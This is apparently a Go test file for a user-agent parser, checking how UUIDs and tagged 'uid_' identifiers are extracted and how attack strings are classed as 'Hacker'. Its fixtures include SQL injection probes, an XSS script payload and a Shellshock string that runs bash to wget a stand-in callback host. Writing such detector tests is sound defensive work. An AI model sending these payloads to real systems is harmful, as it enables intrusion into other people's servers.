package uaparse

import "testing"

// TestUUIDForms shows how identifiers are read, with made-up
// user agents: a UUID standing as a field of its own in an attack string is
// kept (the answer is still Hacker), one that is the payload's data (a path
// segment or a parameter value) is not; an identifier written as the tagged
// word "uid_<id>" is the AgentUuid whatever the id's shape, and words that
// merely contain the tag, or hold no identifier, are not.
func TestUUIDForms(t *testing.T) {
	uuid := func(want string) map[string]string { return map[string]string{"AgentUuid": want} }
	hacker := func(want string) map[string]string {
		return map[string]string{"AgentClass": "Hacker", "DeviceClass": "Hacker", "AgentUuid": want}
	}
	checkRuleCases(t, []ruleCase{
		// A probe tagging itself with a job or session UUID.
		{"Mozilla/5.0 ' AND SLEEP(5) -- ;__SCAN_RUN_ID__:0d6f2a1e-5b7c-4e21-9a3f-3c2b1a0f9e8d;", hacker("0d6f2a1e-5b7c-4e21-9a3f-3c2b1a0f9e8d")},
		{"Mozilla/5.0 ' OR 1=1 -- ;probe:AB12CD34-EF56-7890-ABCD-EF1234567890", hacker("AB12CD34-EF56-7890-ABCD-EF1234567890")},
		// The UUID is the payload's data: not the client's identifier.
		{"() { :; }; /bin/bash -c 'wget http://scan.example.org/callback/0d6f2a1e-5b7c-4e21-9a3f-3c2b1a0f9e8d'", hacker(Unknown)},
		{"Mozilla/5.0 \"><script>alert(1)</script>;token=0d6f2a1e-5b7c-4e21-9a3f-3c2b1a0f9e8d", hacker(Unknown)},
		// Tagged identifiers: a hexadecimal device ID, an app's own id, a UUID.
		{"ExampleSDK/2.0 android mobile/11 (Pixel 5) ExampleApp/1.4 Native uid_3fa85f6457174562 ftr_ Mozilla/5.0 (Linux; Android 11; Pixel 5; wv)", uuid("3fa85f6457174562")},
		{"ExampleSDK/2.0 iPhone OS/15.1 (iPhone) ExampleApp/1.4 Hybrid uid_Phone-Of-Kim-42", uuid("Phone-Of-Kim-42")},
		{"ExampleApp/1.4 (Linux; Android 11) uid_3FA85F64-5717-4562-B3FC-2C963F66AFA6", uuid("3FA85F64-5717-4562-B3FC-2C963F66AFA6")},
		{"ExampleApp/1.4 (Linux; Android 11; uid_a1b2c3d4e5f6)", uuid("a1b2c3d4e5f6")},
		// Not identifiers: a longer word ending in the tag, too short, no digit.
		{"ExampleApp/1.4 (Linux; Android 11) fbuid_3fa85f6457174562", uuid(Unknown)},
		{"ExampleApp/1.4 (Linux; Android 11) uid_12ab", uuid(Unknown)},
		{"ExampleApp/1.4 (Linux; Android 11) uid_anonymous", uuid(Unknown)},
		{"ExampleApp/1.4 (Linux; Android 11) uid_", uuid(Unknown)},
		// The second tag is tried when the first holds no identifier.
		{"ExampleApp/1.4 uid_none uid_77e1c0ffee42aa01", uuid("77e1c0ffee42aa01")},
	})
}
